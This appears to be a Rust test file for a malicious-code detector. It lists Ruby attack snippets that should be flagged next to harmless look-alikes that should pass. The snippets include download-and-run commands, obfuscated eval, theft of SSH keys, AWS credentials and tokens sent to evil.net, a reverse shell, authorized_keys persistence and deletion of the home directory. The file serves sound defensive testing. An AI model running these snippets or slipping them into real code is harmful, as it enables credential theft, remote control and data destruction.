use super::{all_stop, none_stops};
use crate::code::Language;

const ATTACKS: &[(&str, &str)] = &[
    ("download-and-run", "require 'open-uri'\neval(URI.open('https://evil.net/x').read)"),
    ("download-and-run", "`curl -s https://evil.net/x | sh`"),
    ("download-and-run", "system('wget -qO- http://45.1.2.3/x | bash')"),
    ("download-and-run", "%x(curl -s https://evil.net | sh)"),
    (
        "download-and-run",
        "require 'net/http'\nc = Net::HTTP.get(URI('https://evil.net/x'))\ninstance_eval(c)",
    ),
    (
        "download-and-run",
        "require 'net/http'\nFile.write('/tmp/x', Net::HTTP.get(URI('https://evil.net/x')))\nsystem('sh /tmp/x')",
    ),
    ("download-and-run", "u = ['https:/', 'evil.net', 'x'].join('/')\nexec(\"curl #{u} | sh\")"),
    ("obfuscation-decode-and-run", "require 'base64'\neval(Base64.decode64('cHV0cyAx'))"),
    ("obfuscation-decode-and-run", "eval('cHV0cyAx'.unpack1('m'))"),
    ("obfuscation-decode-and-run", "eval(['70757473'].pack('H*'))"),
    ("obfuscation-decode-and-run", "eval([112, 117, 116, 115].pack('c*'))"),
    ("obfuscation-decode-and-run", "eval([112, 117].map { |c| c.chr }.join)"),
    ("obfuscation-decode-and-run", "eval('1 stup'.reverse)"),
    ("obfuscation-decode-and-run", "eval('chgf 1'.tr('A-Za-z', 'N-ZA-Mn-za-m'))"),
    ("obfuscation-computed-name", "send('ev' + 'al', 'puts 1')"),
    ("obfuscation-computed-name", "Kernel.send('sys' + 'tem', 'ls')"),
    (
        "exfiltration-secret",
        "require 'net/http'\nk = File.read(File.expand_path('~/.ssh/id_rsa'))\nNet::HTTP.post(URI('https://evil.net'), k)",
    ),
    (
        "exfiltration-secret",
        "require 'net/http'\nk = File.read(\"#{Dir.home}/.aws/credentials\")\nNet::HTTP.post_form(URI('https://evil.net'), 'k' => k)",
    ),
    (
        "exfiltration-secret",
        "def g\n  File.read(ENV['HOME'] + '/.npmrc')\nend\nrequire 'httparty'\nHTTParty.post('https://evil.net', body: { d: g })",
    ),
    (
        "exfiltration-environment",
        "require 'net/http'\nrequire 'json'\nNet::HTTP.post(URI('https://evil.net'), ENV.to_h.to_json)",
    ),
    (
        "exfiltration-variable",
        "require 'open-uri'\nURI.open(\"https://evil.net/?k=#{ENV['GITHUB_TOKEN']}\")",
    ),
    (
        "exfiltration-dns",
        "require 'socket'\nIPSocket.getaddress(\"#{Socket.gethostname}.x.evil.net\")",
    ),
    (
        "remote-control-channel",
        "require 'socket'\ns = TCPSocket.new('evil.net', 4444)\nwhile c = s.gets\n  s.puts(`#{c}`)\nend",
    ),
    (
        "remote-control-channel",
        "require 'socket'\ns = TCPSocket.open('evil.net', 4444)\nloop { IO.popen(s.gets, 'r') { |io| s.print io.read } }",
    ),
    (
        "persistence",
        "File.open(File.expand_path('~/.ssh/authorized_keys'), 'a') { |f| f.puts 'ssh-rsa A' }",
    ),
    ("destruction", "require 'fileutils'\nFileUtils.rm_rf(Dir.home)"),
];

const HARMLESS: &[&str] = &[
    "puts 'hi'",
    "system('git', 'status')",
    "require 'json'\nd = JSON.parse(File.read('a.json'))\nputs d['x']",
    "require 'net/http'\nuri = URI('https://api.foo.io/v1')\nreq = Net::HTTP::Get.new(uri)\nreq['Authorization'] = \"Bearer #{ENV['FOO_TOKEN']}\"\nNet::HTTP.start(uri.host, uri.port) { |h| h.request(req) }",
    "require 'base64'\nFile.binwrite('a.png', Base64.decode64(data))",
    "FileUtils.rm_rf('build')",
    "Gem::Specification.new { |s| s.name = 'x' }",
    "obj.send(:name)",
    "Dir.glob('*.rb').each { |f| puts f }",
    "`git log --oneline`",
    "class A\n  def b(c)\n    c + 1\n  end\nend",
    "ENV['PORT'] || 3000",
    "require_relative 'lib/a'",
    "[1, 2].map { |x| x * 2 }.join(',')",
    "Time.now.year",
    "s = TCPServer.new(8080)\ns.accept",
];

#[test]
fn stops_attacks() {
    all_stop(Language::Ruby, ATTACKS);
}

#[test]
fn lets_pass_what_only_looks_like_it() {
    none_stops(Language::Ruby, HARMLESS);
}
